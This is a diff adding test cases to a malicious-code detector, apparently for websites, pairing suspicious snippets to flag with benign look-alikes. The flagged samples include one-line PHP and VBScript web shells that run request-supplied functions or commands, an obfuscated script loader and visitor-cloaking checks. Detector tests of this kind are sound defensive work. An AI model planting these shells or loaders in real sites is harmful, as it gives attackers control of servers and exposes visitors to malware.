@@ -100,6 +100,69 @@ const TRAITS: Readonly<Record<string, Cases>> = {
       'a selection': ['vba', 's = Selection.Text'],
     },
   },
+  web_shell: {
+    hits: {
+      'a function that the request names': ['php', "<?php $f = $_GET['0']; $f($_GET['1']); ?>"],
+      'what a function of a hidden name decoded': [
+        'php',
+        "<?php $k = str_rot13('onfr64_qrpbqr'); $z = $k($_POST['d']); @assert($z);",
+      ],
+      'a command of a page of the old kind': [
+        'vbscript',
+        'Set s = CreateObject("WScript.Shell")\nSet c = s.Exec("cmd /c " & Request("c"))',
+      ],
+    },
+    misses: {
+      'a handler that is looked up': ['php', "<?php $name = $_GET['page']; $routes[$name]($request);"],
+      'a value that is checked': ['php', "<?php $id = $_GET['id']; assert(is_numeric($id)); show((int) $id);"],
+      'a page that starts a fixed program': [
+        'vbscript',
+        'Set c = s.Exec("ipconfig /all")\nResponse.Write Request("title")',
+      ],
+    },
+  },
+  page_deciphers_itself: {
+    hits: {
+      'with the library': [
+        'javascript',
+        'const d = CryptoJS.AES.decrypt(e, k).toString(CryptoJS.enc.Utf8); document.write(d)',
+      ],
+    },
+    misses: {
+      'a message that is shown in its place': [
+        'javascript',
+        'const d = CryptoJS.AES.decrypt(e, k).toString(CryptoJS.enc.Utf8); note.textContent = d',
+      ],
+    },
+  },
+  script_source_decoded: {
+    hits: {
+      'on the spot': [
+        'javascript',
+        'var e = document.createElement("script"); e.async = 1; e.src = window.atob("aHR0cHM6Ly94LmV4YW1wbGUv") + id; head.appendChild(e)',
+      ],
+    },
+    misses: {
+      'in the open': [
+        'javascript',
+        'var e = document.createElement("script"); e.src = "https://cdn.example/a.js"; head.appendChild(e)',
+      ],
+      'a picture': [
+        'javascript',
+        'var i = document.createElement("img"); i.src = "data:image/png;base64," + btoa(bytes)',
+      ],
+    },
+  },
+  visitor_chosen: {
+    hits: {
+      'who is not signed in': ['javascript', 'if (document.cookie.indexOf("wordpress_logged") < 0) go()'],
+      'who comes from elsewhere': ['javascript', "if (x.referrer.split('/')[2] !== location.host) go()"],
+    },
+    misses: {
+      'a cookie of its own': ['javascript', 'if (document.cookie.indexOf("consent=1") < 0) ask()'],
+      'a referrer that is counted': ['javascript', 'send({ from: document.referrer })'],
+    },
+  },
   object_of_computed_name: {
     hits: { 'run at once': ['vba', 'CreateObject(k).Run p, 0'] },
     misses: {
